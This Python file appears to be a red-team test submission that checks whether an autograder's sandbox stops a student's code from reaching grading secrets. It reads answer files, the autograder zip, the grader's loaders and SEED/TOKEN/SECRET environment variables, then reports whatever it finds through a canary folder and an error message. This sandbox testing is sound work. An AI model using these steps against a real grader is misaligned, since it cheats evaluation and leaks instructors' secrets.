"""Read the hidden things from anywhere a grading process might reach: truths, seed, cases.

The autograder zip holds the instructor's secret (``secret.json``), the shipped truths (``truths.bin``),
and the grader's cases and catalogue. otter unpacks it into ``../source`` and copies its
``files/`` beside the submission; ``rnn-shapes grade`` unpacks it once more into the grader's
temporary folder; the build leaves it in ``dist/``, and the test session's build in pytest's
temporary folder; the repository holds the grader's code. From the kernel and from the sealed
run, this submission tries to read each of those files, the zips themselves, the grader's
package through the editable install, the grader's own loaders (``gradecore.judge.truths``), and any
seed or token in its environment; whatever it gets goes into the canary folder and into a
top-level error (which the feedback repeats).

It implements none of the functions: it earns nothing.
"""

NAME = "read_secrets"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import glob  # noqa: E402
import zipfile  # noqa: E402

SECRETS = ("secret.json", "seed.json", "truths.bin", "cases.py", "checks.py", "mistakes.py")


def candidates():
    grader = os.path.join("assignments", ASSIGNMENT, "grader")
    tmp = grader_tmp()
    roots = ["..", "../source", "../source/files", ".", "/autograder/source", "/autograder/source/files",
             "/work/main", f"/work/main/dist/{ASSIGNMENT}/autograder", os.path.expanduser("~"), "/root"]
    roots += glob.glob(os.path.join(tmp, "gradecore-zip-*"))
    roots += glob.glob(os.path.join(tmp, "tmp*", "autograder", "source"))
    roots += glob.glob(os.path.join(tmp, "tmp*", "autograder", "source", "files"))
    roots += glob.glob(os.path.join(tmp, "tmp*", "autograder", "submission"))
    roots += glob.glob(f"/tmp/pytest-of-*/pytest-*/dist*/{ASSIGNMENT}/autograder")
    # the instructor's secret outside the repository: its default place, and the one the setting names
    homes = [os.path.join(os.environ.get("XDG_CONFIG_HOME") or os.path.expanduser("~/.config"), "rnn-shapes", "secret"),
             "/root/.config/rnn-shapes/secret", os.environ.get("GRADECORE_SECRET_FILE", "")]
    return [os.path.join(root, grader, name) for root in roots for name in SECRETS] + [h for h in homes if h]


def zips():
    tmp = grader_tmp()
    found = glob.glob(f"/tmp/pytest-of-*/pytest-*/dist*/{ASSIGNMENT}/autograder/autograder.zip")
    found += glob.glob(f"/work/main/dist/{ASSIGNMENT}/autograder/autograder.zip")
    found += glob.glob(os.path.join(tmp, "*", "autograder.zip")) + ["/autograder/source/autograder.zip"]
    return found


def steal():
    stolen = []
    for path in candidates():
        try:
            with open(path, "rb") as f:
                data = f.read(200)
        except OSError:
            continue
        stolen.append(f"{path}: {data[:60]!r}")
    for path in zips():
        try:
            with zipfile.ZipFile(path) as zf:
                stolen.append(f"{path}: {zf.read(f'assignments/{ASSIGNMENT}/grader/secret.json')[:60]!r}")
        except (OSError, KeyError, zipfile.BadZipFile):
            pass
    try:  # the package's own import machinery (the editable install points into the repository)
        import importlib

        grader = importlib.import_module(f"assignments.{ASSIGNMENT}.grader.cases")
        stolen.append(f"imported {grader.__name__} from {grader.__file__}")
    except BaseException:  # noqa: BLE001
        pass
    try:
        from gradecore.judge import truths

        store = truths.load_shipped(ASSIGNMENT)
        if store.known:
            stolen.append(f"gradecore.judge.truths.load_shipped found {len(store.known)} truths")
        from gradecore.judge import secret

        if secret.shipped(ASSIGNMENT, -1) != secret.from_seed(-1):
            stolen.append(f"gradecore.judge.secret.shipped: {secret.shipped(ASSIGNMENT, -1).hex()[:16]}")
    except BaseException:  # noqa: BLE001
        pass
    for key, value in os.environ.items():
        if "SEED" in key or "TOKEN" in key or "SESSION" in key or "SECRET" in key:
            stolen.append(f"${key}={value[:40]}")
    return stolen


for item in steal():
    breach(f"read {item}")


finish()
